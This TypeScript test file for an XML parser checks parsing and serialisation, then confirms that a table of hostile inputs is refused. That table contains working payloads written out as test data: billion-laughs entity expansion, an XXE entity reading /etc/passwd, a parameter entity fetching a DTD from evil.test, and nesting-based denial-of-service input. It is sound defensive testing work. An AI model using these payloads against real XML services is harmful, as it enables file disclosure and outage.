import { test } from 'node:test';
import assert from 'node:assert/strict';
import { DEFAULT_XML_LIMITS, parseXml, serialize, type XmlErrorCondition } from '../../../src/shared/xml/index.ts';

test('parses a document into ltx elements with namespaces, text, CDATA and escapes', () => {
  const result = parseXml('<?xml version="1.0" encoding="UTF-8"?>\n<a xmlns="urn:a" xmlns:p="urn:p"><p:b c="1 &amp; 2">x &lt; y<![CDATA[<z>]]></p:b><!-- note --></a>\n');
  assert.ok(result.ok);
  const b = result.root.getChildElements()[0];
  assert.equal(b?.getName(), 'b');
  assert.equal(b?.getNS(), 'urn:p');
  assert.equal(b?.attrs.c, '1 & 2');
  assert.equal(b?.getText(), 'x < y<z>');
  assert.equal(serialize(result.root), '<?xml version="1.0" encoding="UTF-8"?><a xmlns="urn:a" xmlns:p="urn:p"><p:b c="1 &amp; 2">x &lt; y&lt;z&gt;</p:b></a>');
});

test('accepts UTF-8 bytes, with or without a byte-order mark', () => {
  for (const bytes of [Buffer.from('<a>é€😀</a>'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<a>é€😀</a>')])]) {
    const result = parseXml(bytes);
    assert.ok(result.ok);
    assert.equal(result.root.getText(), 'é€😀');
  }
});

const hostile: Array<[string, string | Uint8Array, XmlErrorCondition, RegExp?]> = [
  ['billion laughs', '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>', 'restricted-xml'],
  ['external entity', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>', 'restricted-xml'],
  ['parameter entity', '<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.test/x.dtd">%p;]><foo/>', 'restricted-xml'],
  ['bare DOCTYPE', '<!DOCTYPE html><html/>', 'restricted-xml'],
  ['processing instruction', '<a><?php echo 1; ?></a>', 'restricted-xml', /processing instruction/],
  ['PI before the root', '<?xml-stylesheet href="x"?><a/>', 'restricted-xml'],
  ['undefined entity', '<a>&lol;</a>', 'not-well-formed'],
  ['deep nesting', `${'<a>'.repeat(65)}${'</a>'.repeat(65)}`, 'policy-violation', /deeper than 64/],
  ['deep nesting that never closes', '<a>'.repeat(100_000), 'policy-violation'],
  ['too many elements', `<r>${'<e/>'.repeat(DEFAULT_XML_LIMITS.maxElements)}</r>`, 'policy-violation'],
  ['invalid UTF-8', Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e]), 'unsupported-encoding'],
  ['overlong UTF-8', Buffer.from([0x3c, 0x61, 0x3e, 0xc0, 0xbc, 0x3c, 0x2f, 0x61, 0x3e]), 'unsupported-encoding'],
  ['lone surrogate bytes', Buffer.from([0x3c, 0x61, 0x3e, 0xed, 0xa0, 0x80, 0x3c, 0x2f, 0x61, 0x3e]), 'unsupported-encoding'],
  ['NUL character', '<a>\u0000</a>', 'not-well-formed'],
  ['control character reference', '<a>&#1;</a>', 'not-well-formed'],
  ['declared non-UTF-8 encoding', '<?xml version="1.0" encoding="UTF-16"?><a/>', 'unsupported-encoding'],
  ['XML 1.1', '<?xml version="1.1"?><a/>', 'not-well-formed'],
  ['mismatched tags', '<a><b></a></b>', 'not-well-formed'],
  ['unclosed root', '<a><b/>', 'not-well-formed'],
  ['two roots', '<a/><b/>', 'not-well-formed'],
  ['text outside the root', 'x<a/>', 'not-well-formed'],
  ['empty input', '', 'not-well-formed'],
  ['unbound prefix', '<p:a/>', 'not-well-formed'],
  ['duplicate attribute', '<a x="1" x="2"/>', 'not-well-formed'],
  ['unquoted attribute', '<a x=1/>', 'not-well-formed'],
];

for (const [name, input, condition, message] of hostile) {
  test(`refuses ${name} as ${condition}, without throwing`, () => {
    const result = parseXml(input);
    assert.equal(result.ok, false);
    if (result.ok) return;
    assert.equal(result.error.condition, condition);
    if (message) assert.match(result.error.message, message);
  });
}

test('limits are options', () => {
  assert.equal(parseXml('<a><b><c/></b></a>', { maxDepth: 2, maxElements: 10 }).ok, false);
  assert.equal(parseXml('<a><b/><c/></a>', { maxDepth: 5, maxElements: 2 }).ok, false);
  assert.equal(parseXml('<a><b/></a>', { maxDepth: 2, maxElements: 2 }).ok, true);
});
